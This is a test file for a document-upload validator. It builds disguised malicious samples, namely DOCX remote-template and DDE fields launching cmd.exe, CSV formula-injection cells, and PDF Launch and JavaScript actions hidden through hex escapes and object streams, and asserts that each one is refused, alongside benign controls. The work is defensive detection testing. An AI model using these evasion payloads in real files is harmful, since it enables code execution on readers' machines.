// Programs that hide in a paper under another spelling than the one that is looked for first.
import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { checkFile } from '../../packages/services/src/progress/files/check-file.ts'
import { bytes, joined, openDocument, pdf, word, workbook } from './evidence-samples.ts'
import { zip } from '../bad-input/zip.ts'

const ns = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const linked = (type: string, target = 'http://xau.example/a', how = 'TargetMode="External"') =>
  `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="${ns}/${type}" Target="${target}" ${how}/></Relationships>`
const utf16 = (text: string) =>
  new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))
const utf16be = (text: string) =>
  new Uint8Array(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]))
const at = (name: string, part: Uint8Array) => word([{ name, bytes: part }])
const rels = 'word/_rels/document.xml.rels'
const field = (code: string) =>
  zip([
    {
      name: '[Content_Types].xml',
      bytes: bytes(
        '<Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
      ),
    },
    {
      name: 'word/document.xml',
      bytes: bytes(`<w:document><w:instrText>${code}</w:instrText></w:document>`),
    },
  ])

/** A PDF whose page, and what the page does, lie packed in an object stream, as most programs write them today. */
function packed(page: string, more: readonly string[] = []): Uint8Array {
  const objects = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', page, ...more]
  let places = ''
  let body = ''
  for (const [i, object] of objects.entries()) {
    places += `${i + 1} ${body.length} `
    body += `${object} `
  }
  const stream = deflateSync(Buffer.from(places + body))
  const number = objects.length + 1
  const head = `%PDF-1.5\n${number} 0 obj<</Type/ObjStm/N ${objects.length}/First ${places.length}/Filter/FlateDecode/Length ${stream.length}>>stream\n`
  const begin = Buffer.concat([Buffer.from(head), stream, Buffer.from('\nendstream endobj\n')])
  const rows = [[0, 0, 65535], ...objects.map((_, i) => [2, number, i]), [1, 9, 0], [1, begin.length, 0]]
  const table = Buffer.concat(
    rows.map(([kind, a, b]) => {
      const row = Buffer.alloc(7)
      row[0] = kind!
      row.writeUInt32BE(a!, 1)
      row.writeUInt16BE(b!, 5)
      return row
    }),
  )
  const last = `${number + 1} 0 obj<</Type/XRef/Size ${rows.length}/W[1 4 2]/Root 1 0 R/Length ${table.length}>>stream\n`
  const end = `\nendstream endobj\nstartxref\n${begin.length}\n%%EOF\n`
  return joined(new Uint8Array(begin), bytes(last), new Uint8Array(table), bytes(end))
}

const page = (more: string) => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${more}>>`

const hiding: ReadonlyArray<readonly [string, Uint8Array]> = [
  ['mau-utf16.docx', at('word/_rels/settings.xml.rels', utf16(linked('attachedTemplate')))],
  ['mau-utf16be.docx', at('word/_rels/settings.xml.rels', utf16be(linked('attachedTemplate')))],
  ['mau-ky-tu.docx', at('word/_rels/settings.xml.rels', bytes(linked('attached&#84;emplate')))],
  [
    'mau-ky-tu-hex.docx',
    at(
      'word/_rels/settings.xml.rels',
      bytes(linked('attached&#x54;emplate', 'http://x', 'TargetMode="Ex&#x74;ernal"')),
    ),
  ],
  ['mau-cho-khac.docx', at('word/_rels/s.xml.rels', bytes(linked('attachedTemplate')))],
  ['ole-xa.docx', at(rels, bytes(linked('oleObject', 'mhtml:http://xau.example/a.html!x')))],
  ['khung.docx', at('word/_rels/webSettings.xml.rels', bytes(linked('frame')))],
  ['van-ban-con.docx', at(rels, bytes(linked('subDocument')))],
  ['dde.docx', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
  ['dde-tach.docx', field('D</w:instrText><w:instrText>DEAUTO cmd')],
  [
    'dde.xlsx',
    zip([
      {
        name: '[Content_Types].xml',
        bytes: bytes(
          '<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
        ),
      },
      { name: 'xl/workbook.xml', bytes: bytes('<workbook/>') },
      {
        name: 'xl/externalLinks/externalLink1.xml',
        bytes: bytes('<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
      },
    ]),
  ],
  [
    'macro4.xlsx',
    zip([
      {
        name: '[Content_Types].xml',
        bytes: bytes(
          '<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
        ),
      },
      { name: 'xl/workbook.xml', bytes: bytes('<workbook/>') },
      { name: 'xl/macrosheets/sheet1.xml', bytes: bytes('<xm:macrosheet/>') },
    ]),
  ],
  [
    'su-kien.odt',
    openDocument('text', [
      {
        name: 'settings.xml',
        bytes: bytes(
          '<script:event-listener xlink:href="vnd.sun.star.script:a?language=Python&amp;location=share"/>',
        ),
      },
    ]),
  ],
  [
    'dde.ods',
    openDocument('spreadsheet', [
      {
        name: 'styles.xml',
        bytes: bytes('<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>'),
      },
    ]),
  ],
  ['bang.csv', bytes('xã,số lớp\n"=cmd|\'/c calc\'!A0",12\n')],
  ['bang-hai.csv', bytes('xã;số lớp\n=HYPERLINK("http://xau.example";"xem");12\n')],
  ['bang-ba.csv', bytes("xã\tsố lớp\n\t@SUM(1+1)*cmd|' /C calc'!A0\n")],
  ['js-hex.pdf', pdf('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>')],
  ['mo-hex.pdf', pdf('/OpenAction<</S/L#61unch/F(cmd.exe)>>')],
  ['chuoi.pdf', pdf('/X(>>stream\n)/OpenAction<</S/Launch/F(cmd.exe)>>/Y(endstream)')],
  ['js-goi.pdf', packed(page('/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>'))],
  [
    'js-lien-ket.pdf',
    packed(page('/Annots[4 0 R]'), [
      '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(app.alert(1))>>>>',
    ]),
  ],
  [
    'mo-goi.pdf',
    packed(page('/Annots[4 0 R]'), ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>']),
  ],
  ['gui-di.pdf', packed(page('/AA<</O<</S/SubmitForm/F(http://xau.example)>>>>'))],
  ['kem-goi.pdf', packed(page(''), ['<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>', '<</Type/EmbeddedFile>>'])],
]

test.each(hiding)('%s is refused as one that carries a program', async (name, made) => {
  expect(await checkFile({ name, bytes: made }, 'file')).toMatchObject({
    ok: false,
    refusals: [{ code: 'evidence-with-program' }],
  })
})

const honest: ReadonlyArray<readonly [string, Uint8Array]> = [
  ['lien-ket.docx', at(rels, bytes(linked('hyperlink', 'https://chinhphu.vn')))],
  ['anh-lien-ket.docx', at(rels, bytes(linked('image', 'https://chinhphu.vn/a.png')))],
  ['noi-ve.docx', field(' PAGE ')],
  ['so-lieu.csv', bytes('xã,tăng,điện thoại\nMinh Sơn,-5,+84 28 1\nYên Bình,"- chưa có","-"\n@minhson,=,\n')],
  [
    'goi.pdf',
    packed(page('/Annots[4 0 R]'), [
      '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://chinhphu.vn)>>>>',
    ]),
  ],
  ['bang.xlsx', workbook()],
]

test.each(honest)('%s is taken', async (name, made) => {
  expect(await checkFile({ name, bytes: made }, 'file')).toMatchObject({ ok: true })
})
